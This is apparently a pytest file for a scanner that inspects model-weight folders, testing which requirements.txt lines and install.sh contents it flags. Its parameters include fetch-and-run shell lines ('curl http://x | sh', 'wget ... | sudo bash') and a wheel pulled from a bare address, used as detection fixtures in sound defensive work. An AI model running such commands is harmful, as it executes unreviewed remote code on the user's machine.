"""Requirements and scripts beside weights."""

import pytest
from tests.scan.folder.side_by_side import WEIGHTS, rules


@pytest.mark.parametrize(
    ("line", "level"),
    [
        ("numpy==2.0", ""),
        ("# see https://example.org", ""),
        ("evil @ http://127.0.0.1/x.whl", "unknown"),
        ("--index-url http://127.0.0.1:9/", "unknown"),
        ("--extra-index-url https://download.pytorch.org/whl/cu118", "note"),
        ("git+https://github.com/a/b", "note"),
    ],
)
def test_requirements_from_an_address(line: str, level: str) -> None:
    """Plain packages are none of the folder's business; an open connection is worse than a closed one."""
    found = rules({"model.safetensors": WEIGHTS, "requirements.txt": line + "\n"})

    assert found == ({("requirements.txt", "folder-requirement-address", level)} if level else set())


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("curl http://x | sh", True),
        ("wget -qO- https://x/y.sh | sudo bash", True),
        ("curl -o x http://x", False),
        ("curl " + "a" * 5_000, False),
        ("echo curl", False),
    ],
)
def test_scripts_that_fetch_and_run(line: str, said: bool) -> None:
    """One line is enough; fetching alone is not."""
    found = rules({"model.safetensors": WEIGHTS, "install.sh": "#!/bin/sh\n" + line + "\n"})

    assert found == ({("install.sh", "folder-script-beside", "unknown")} if said else set())
